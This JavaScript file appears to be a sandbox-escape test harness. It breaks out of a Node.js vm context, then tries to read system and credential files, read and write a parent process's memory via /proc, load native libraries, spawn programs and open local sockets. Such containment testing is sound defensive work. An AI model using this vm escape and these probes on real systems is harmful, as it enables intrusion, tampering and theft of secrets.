// A hostile function: each attack returns what it got, or fails. `settings` name the targets.
// It leaves its vm context first, which anyone can: what must hold is the process.
const process = Buffer.constructor('return process')();
const require = process.getBuiltinModule;
const fs = require('fs');
const net = require('net');
const os = require('os');

const contents = (file) => fs.readFileSync(file).subarray(0, 64).toString('latin1');
const settled = (emitter, done) => new Promise((resolve, reject) => {
  emitter.once(done, () => resolve(done));
  emitter.once('error', reject);
});

async function connect(address, text) {
  const socket = net.connect(address);
  await settled(socket, 'connect');
  await new Promise((resolve) => { socket.end(text, resolve); });
  return 'connected';
}

const ATTACKS = {
  // Files
  'read a file of the system': () => contents('/etc/passwd'),
  "read the project's folder": (t) => contents(`${t.project}/source.toml`),
  'read the data folder': (t) => contents(`${t.data}/settings.db`),
  'read a file by way of /proc/self': (t) => contents(`/proc/self/root${t.data}/settings.db`),
  'list folders': () => fs.readdirSync('/').length,
  'write a file': (t) => { fs.appendFileSync(`${t.scratch}/javascript`, 'x'); return 'written'; },
  'write shared memory files': () => {
    const file = `/dev/shm/hookmill-attack-${process.pid}`;
    fs.appendFileSync(file, 'x');
    fs.unlinkSync(file);
    return 'written';
  },
  'change a file of the project': (t) => { fs.appendFileSync(`${t.project}/source.toml`, '// was here\n'); return 'changed'; },
  'truncate a file by its path': (t) => { fs.truncateSync(`${t.project}/truncated`, 0); return 'truncated'; },
  'truncate a file it may read': (t) => {
    fs.closeSync(fs.openSync(`${t.readable}/module`, fs.constants.O_RDONLY | fs.constants.O_TRUNC));
    return 'truncated';
  },
  'delete a file': (t) => { fs.unlinkSync(`${t.project}/deleted-by-javascript`); return 'gone'; },
  'make a folder': (t) => { fs.mkdirSync(`${t.scratch}/javascript-folder`); return 'made'; },
  'rename a file': (t) => {
    fs.renameSync(`${t.project}/renamed-by-javascript`, `${t.scratch}/renamed-by-javascript`);
    return 'renamed';
  },
  'read by a symbolic link of its own': (t) => {
    fs.symlinkSync(`${t.data}/settings.db`, `${t.scratch}/javascript-link`);
    return contents(`${t.scratch}/javascript-link`);
  },
  'make a hard link': (t) => { fs.linkSync(`${t.data}/settings.db`, `${t.scratch}/javascript-hard-link`); return 'linked'; },
  'change permissions': (t) => { fs.chmodSync(`${t.project}/source.toml`, 0o604); return 'changed'; },
  'change times': (t) => { fs.utimesSync(`${t.project}/source.toml`, 1, 1); return 'changed'; },
  'watch what others do with files': (t) => { fs.watch(t.data).close(); return 'watching'; },
  'load a library from a folder of its choice': (t) => {
    try {
      process.dlopen({ exports: {} }, `${t.project}/library.so`);
    } catch (error) {
      // Loaded, and then found to be no module of Node.js: its code has run all the same.
      if (!/self-register/.test(error.message)) throw error;
    }
    return 'loaded';
  },

  // Other processes
  "read the parent's environment": (t) => contents(`/proc/${t.victim}/environ`),
  "read the parent's memory by its file": (t) => {
    const memory = fs.openSync(`/proc/${t.victim}/mem`, 'r');
    const loot = Buffer.alloc(16);
    fs.readSync(memory, loot, 0, 16, t.address);
    return loot.toString() === t.secret;
  },
  "write the parent's memory": (t) => {
    const memory = fs.openSync(`/proc/${t.victim}/mem`, 'r+');
    return fs.writeSync(memory, Buffer.from('x'), 0, 1, t.address + 32);
  },
  "read the parent's memory map": (t) => contents(`/proc/${t.victim}/maps`),
  "read the parent's command line": (t) => contents(`/proc/${t.victim}/cmdline`),
  'list the processes': () => fs.readdirSync('/proc').filter((entry) => /^\d+$/.test(entry)).length,
  'signal the parent': (t) => { process.kill(t.victim, 'SIGCONT'); return 'sent'; },
  'signal its process group': () => { process.kill(0, 'SIGCONT'); return 'sent'; },
  'slow the parent down': (t) => { os.setPriority(t.victim, 1); return 'slower'; },

  // Programs and processes of its own
  fork: () => {
    const { error, pid } = require('child_process').spawnSync(process.execPath, ['--version']);
    if (error) throw error;
    return pid;
  },
  'run a program': () => require('child_process').execFileSync('/bin/echo', ['was here']).toString(),

  // Network
  'connect by TCP': (t) => connect({ host: '127.0.0.1', port: t.tcp }, 'connect by TCP'),
  'listen by TCP': async () => {
    const server = net.createServer().listen(0, '127.0.0.1');
    await settled(server, 'listening');
    server.close();
    return 'listening';
  },
  'send by UDP': (t) => new Promise((resolve, reject) => {
    const socket = require('dgram').createSocket('udp4');
    socket.once('error', reject);
    socket.send('send by UDP', t.udp, '127.0.0.1', (error) => {
      socket.close();
      if (error) reject(error);
      else resolve('sent');
    });
  }),
  'connect to a unix socket': (t) => connect({ path: t.unix }, 'connect to a unix socket'),
  'connect to an abstract unix socket': (t) => connect({ path: `\0${t.abstract}` }, 'connect to an abstract unix socket'),
  'open itself to a debugger': () => {
    const inspector = require('inspector');
    inspector.open(0, '127.0.0.1');
    const url = inspector.url();
    inspector.close();
    return url;
  },

  // The kernel's other objects
  'use what the parent left open': (t) => Array.from({ length: 64 }, (_, descriptor) => descriptor).some((descriptor) => {
    const loot = Buffer.alloc(t.left_open.length);
    try {
      fs.readSync(descriptor, loot, 0, loot.length, 0);
    } catch {
      return false;
    }
    return loot.toString() === t.left_open;
  }),
};

async function attack(name, targets) {
  try {
    const loot = await ATTACKS[name](targets);
    return loot ? String(loot).slice(0, 80) : '';
  } catch {
    return '';
  }
}

async function onRequest(request, settings) {
  const name = request.json().attack;
  Segment.track({ event: name, userId: 'attacker', properties: { loot: await attack(name, settings) } });
}
